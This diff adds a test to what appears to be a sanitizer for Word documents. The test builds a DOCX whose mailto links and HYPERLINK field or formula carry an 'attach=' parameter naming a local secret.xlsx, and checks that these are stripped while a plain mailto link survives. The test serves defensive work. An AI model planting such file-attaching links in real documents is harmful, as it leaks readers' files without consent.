@@ -844,3 +844,29 @@ def test_an_address_without_external_target_mode_is_said_not_silently_dropped(tm
     assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
     with zipfile.ZipFile(output) as package:
         assert "rIdX" not in package.read("word/_rels/document.xml.rels").decode()
+
+
+def test_a_mailto_link_that_attaches_a_file_goes_and_a_plain_one_stays(tmp_path: Path) -> None:
+    """mailto:?attach= names a file of the reader's computer that several mail programs attach: the
+    relationship, the HYPERLINK field and the HYPERLINK formula keep only a message's own fields."""
+    attach = "mailto:soumu@city.example.lg.jp?subject=%E8%A6%8B%E7%A9%8D&amp;attach=C:%5CUsers%5Ca%5Csecret.xlsx"
+    plain = "mailto:soumu@city.example.lg.jp?subject=%E8%A6%8B%E7%A9%8D"
+    base = base_docx(tmp_path)
+    with zipfile.ZipFile(base) as package:
+        rels = package.read("word/_rels/document.xml.rels").decode()
+    end = rels.rindex("</Relationships>")
+    rels = (rels[:end] + f'<Relationship Id="rIdM1" Type="{REL}/hyperlink" Target="{attach}" TargetMode="External"/>'
+            f'<Relationship Id="rIdM2" Type="{REL}/hyperlink" Target="{plain}" TargetMode="External"/>' + rels[end:])
+    body = ('<w:p><w:hyperlink r:id="rIdM1"><w:r><w:t>添付して送る</w:t></w:r></w:hyperlink>'
+            '<w:hyperlink r:id="rIdM2"><w:r><w:t>問合せ</w:t></w:r></w:hyperlink></w:p>'
+            + field_runs([f'HYPERLINK "{attach}"'], "欄"))
+    document = word_body(tmp_path, body, "mail.docx")
+    attacked = edit_package(document, tmp_path / "mail-links.docx", {"word/_rels/document.xml.rels": rels.encode()})
+    outcome, codes, output = sanitize(attacked, tmp_path)
+    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
+    with zipfile.ZipFile(output) as package:
+        written = package.read("word/_rels/document.xml.rels").decode() + package.read("word/document.xml").decode()
+    assert "attach" not in written and plain.replace("&amp;", "&") in written.replace("&amp;", "&")
+    assert inspect_file(output, tmp_path).clean
+    assert formula_problem('HYPERLINK("mailto:a@example.jp?attach=C:\\secret.xlsx","x")') is not None
+    assert formula_problem('HYPERLINK("mailto:a@example.jp?subject=x","x")') is None
